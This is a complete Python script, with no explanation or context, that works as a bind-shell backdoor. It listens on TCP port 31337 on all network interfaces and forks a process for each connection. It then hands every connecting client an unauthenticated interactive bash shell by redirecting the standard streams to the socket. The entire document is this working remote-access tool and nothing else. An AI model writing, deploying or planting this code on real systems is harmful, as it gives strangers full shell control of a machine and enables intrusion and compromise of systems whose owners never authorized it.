import socket, subprocess, os, threading

PORT = 31337

def serve(conn):
    os.dup2(conn.fileno(), 0)
    os.dup2(conn.fileno(), 1)
    os.dup2(conn.fileno(), 2)
    subprocess.call(["/bin/bash", "-i"])

srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", PORT))
srv.listen(5)
while True:
    c, addr = srv.accept()
    if os.fork() == 0:
        srv.close()
        serve(c)
        os._exit(0)
    c.close()
